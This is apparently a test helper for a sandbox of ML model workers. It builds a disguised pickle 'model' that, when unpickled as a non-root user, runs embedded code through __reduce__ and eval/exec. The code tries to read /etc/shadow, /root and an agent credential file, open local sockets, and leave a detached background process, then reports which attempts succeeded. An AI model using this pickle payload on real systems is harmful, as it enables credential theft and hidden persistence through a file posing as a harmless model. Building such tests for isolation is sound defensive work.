"""A pickled model that tries what it can in the worker, tells what became of it, and leaves a process behind."""

import base64
import pickle
import re
from pathlib import Path

LEFT_BEHIND = "sleep 98765"
"""Command line of the process that it leaves: in a session of its own, without a mark or a parent to find it by."""

_CODE = r"""
import base64, errno, os, pickle, socket
model = pickle.loads(base64.b64decode({model!r}))

def tried(what):
    try:
        found = what()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
    return "got:" + str(found)[:40].replace(" ", "_")

def leave():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for descriptor in range(256):
                try:
                    os.close(descriptor)
                except OSError:
                    pass
            os.execve("/bin/sleep", ["sleep", "98765"], {{}})
        os._exit(0)
    os.wait()


if os.getuid() != 0:
    attempts = {{
        "state": lambda: os.listdir("/var/lib/private/mltest-agent"),
        "home": lambda: os.listdir("/home"),
        "root": lambda: os.listdir("/root"),
        "etc": lambda: open("/etc/mltest/agent.env").read(),
        "shadow": lambda: open("/etc/shadow").read(),
        "energy": lambda: open("/sys/class/powercap/intel-rapl:0/energy_uj").read(),
        "program": lambda: open("/opt/mltest/hostile", "w"),
        "tcp": lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect(("127.0.0.1", 50771)),
        "udp": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 9)),
        "unix": lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("/run/mltest/powerd.sock"),
        "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
        "nets": lambda: "+".join(line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:]),
        "canary": lambda: os.listdir("/var/tmp/canary"),
        "uid": os.getuid,
    }}
    told = " ".join(name + "=" + tried(what) for name, what in attempts.items())
    try:
        os.mkdir("/var/tmp/canary")
        leave()
    except OSError as error:
        told += " leave=" + errno.errorcode.get(error.errno, str(error))
    raise RuntimeError("FOUND " + told + " DONE")
"""


class _Hostile:
    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        # An expression: the code's names go into one dictionary, of which the model is the value.
        return eval, (f"(lambda names: (exec({self._code!r}, names), names['model'])[1])({{}})",)


def write_hostile_model(folder: Path) -> tuple[Path, Path]:
    """Write model and data: as root, which a coordinator is in these tests, it is a harmless classifier."""
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    generator = np.random.default_rng(0)
    rows = generator.normal(size=(300, 4))
    labels = np.arange(300) % 3
    model = LogisticRegression().fit(rows, labels)
    code = _CODE.format(model=base64.b64encode(pickle.dumps(model)).decode())
    (folder / "hostile.pkl").write_bytes(pickle.dumps(_Hostile(code)))
    np.savez(folder / "rows.npz", X=rows, y=labels)
    return folder / "hostile.pkl", folder / "rows.npz"


def told(text: str) -> dict[str, str]:
    """Return what became of each attempt, from whatever text the model's error stands in."""
    found = re.search(r"FOUND (.*?) DONE", text, re.DOTALL)
    assert found, text
    return dict(word.split("=", 1) for word in found[1].split())
